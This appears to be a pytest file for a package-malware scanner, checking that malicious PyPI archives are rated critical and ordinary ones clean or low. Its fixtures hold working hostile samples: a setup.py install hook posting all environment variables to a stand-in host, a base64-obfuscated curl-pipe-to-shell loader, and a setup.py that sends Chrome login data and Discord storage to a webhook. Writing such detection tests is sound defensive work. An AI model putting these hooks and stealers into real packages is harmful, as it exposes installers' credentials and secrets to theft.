"""PyPI packages: install-time exfiltration and import-time payloads block; ordinary packages do not."""

import base64

from scans.engine import scan_archive, scan_directory

from .conftest import make_tgz, make_zip, rule_names, write_tree

BLOCKING = ("high", "critical")

EXFIL_SETUP = '''\
from setuptools import setup
from setuptools.command.install import install
import json
import os
import urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        data = json.dumps(dict(os.environ)).encode()
        req = urllib.request.Request("https://collector.example.net/c", data=data)
        urllib.request.urlopen(req)


setup(name="helpful-utils", version="0.1.0", packages=["helpful_utils"], cmdclass={"install": PostInstall})
'''


def test_setup_py_cmdclass_install_exfiltrating_env_is_critical(rules):
    data = make_tgz({"setup.py": EXFIL_SETUP, "helpful_utils/__init__.py": "VERSION = '0.1.0'\n",
                     "PKG-INFO": "Metadata-Version: 2.1\nName: helpful-utils\nVersion: 0.1.0\n"},
                    root="helpful-utils-0.1.0/")
    result = scan_archive(data, rules, filename="helpful-utils-0.1.0.tar.gz", ecosystem="pypi")
    assert result.verdict == "critical"
    assert result.phase(1).score > 0 and result.phase(4).score > 0 and result.phase(3).score > 0
    setup_findings = [f for f in result.findings if f.file.endswith("setup.py")]
    assert {"setup_install_command_override", "env_dump_serialised"} <= rule_names(setup_findings)


def test_base64_exec_in_init_is_blocking(rules):
    hidden = "import os\nos.system('curl -s https://payload.example.org/s.sh | sh')\n"
    init = f"import base64\nexec(base64.b64decode('{base64.b64encode(hidden.encode()).decode()}'))\n"
    data = make_zip({"colorfull/__init__.py": init, "colorfull-1.0.dist-info/METADATA": "Name: colorfull\nVersion: 1.0\n"})
    result = scan_archive(data, rules, filename="colorfull-1.0-py3-none-any.whl", ecosystem="pypi")
    assert result.verdict in BLOCKING
    assert "eng_encoded_payload" in result.rule_ids()
    assert any("(decoded blob" in f.file and rule_names([f]) == {"shell_download_pipe"} for f in result.findings)


def test_windows_stealer_in_setup_py_is_critical(rules):
    setup = '''\
from setuptools import setup
import os, requests
hook = "https://discord.com/api/webhooks/123456/abcdef"
local = os.getenv("LOCALAPPDATA")
paths = {"Chrome": local + "\\\\Google\\\\Chrome\\\\User Data", "Discord": os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"}
for name, p in paths.items():
    requests.post(hook, json={"content": open(p + "\\\\Login Data", "rb").read().hex()})
setup(name="pycolourama", version="1.0")
'''
    result = scan_archive(make_tgz({"setup.py": setup}, root="pycolourama-1.0/"), rules, filename="pycolourama-1.0.tar.gz")
    assert result.verdict == "critical"


def test_typosquatted_name_is_a_provenance_finding(rules):
    data = make_tgz({"setup.py": "from setuptools import setup\nsetup(name='reqeusts', version='1.0')\n"}, root="reqeusts-1.0/")
    result = scan_archive(data, rules, filename="reqeusts-1.0.tar.gz", ecosystem="pypi", package_name="reqeusts")
    typo = [f for f in result.findings if f.rule_id == "eng_typosquat"]
    assert typo and typo[0].phase == 6 and "requests" in typo[0].message
    assert result.verdict == "low"  # the name alone never reaches medium (test_benign_idioms)


def test_exact_popular_name_is_not_a_typosquat(rules):
    data = make_tgz({"setup.py": "from setuptools import setup\nsetup(name='requests')\n"}, root="requests-2.0/")
    result = scan_archive(data, rules, filename="requests-2.0.tar.gz", ecosystem="pypi", package_name="requests")
    assert "eng_typosquat" not in result.rule_ids()


BENIGN_PY = {
    "setup.py": (
        "import os\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\n\n"
        "here = os.path.abspath(os.path.dirname(__file__))\nabout = {}\n"
        "exec(open(os.path.join(here, 'calc', '_version.py')).read(), about)\n\n"
        "class BuildExt(build_ext):\n    def run(self):\n        build_ext.run(self)\n\n"
        "setup(name='calc', version=about['__version__'], packages=['calc'], cmdclass={'build_ext': BuildExt})\n"
    ),
    "calc/_version.py": "__version__ = '2.3.1'\n",
    "calc/__init__.py": "import os\nDEBUG = os.environ.get('CALC_DEBUG') == '1'\nfrom .core import add\n",
    "calc/core.py": "def add(a, b):\n    return a + b\n",
    "calc/client.py": (
        "import requests\n\nclass Client:\n    def __init__(self, base):\n        self.base = base\n"
        "    def get(self, path):\n        return requests.get(self.base + path, timeout=5).json()\n"
        "    def post(self, path, body):\n        return requests.post(self.base + path, json=body, timeout=5)\n"
    ),
    "calc/cli.py": "import subprocess, sys\n\ndef main():\n    subprocess.run([sys.executable, '-m', 'calc'], check=True)\n",
    "tests/test_core.py": "from calc import add\n\ndef test_add():\n    assert eval('add(1, 2)') == 3\n",
    "docs/index.rst": "Install with ``curl -sSL https://install.example.org | sh`` or pip.\n",
    "README.md": "# calc\n",
}


def test_ordinary_python_package_stays_clean_or_low(rules):
    result = scan_archive(make_tgz(BENIGN_PY, root="calc-2.3.1/"), rules, filename="calc-2.3.1.tar.gz", ecosystem="pypi")
    assert result.verdict in ("clean", "low"), result.phases


def test_ordinary_python_tree_stays_clean_or_low(rules, tmp_path):
    write_tree(tmp_path, BENIGN_PY)
    result = scan_directory(tmp_path, rules, ecosystem="pypi", package_name="calc")
    assert result.verdict in ("clean", "low"), result.phases
    assert result.file_stats["python"] == 7
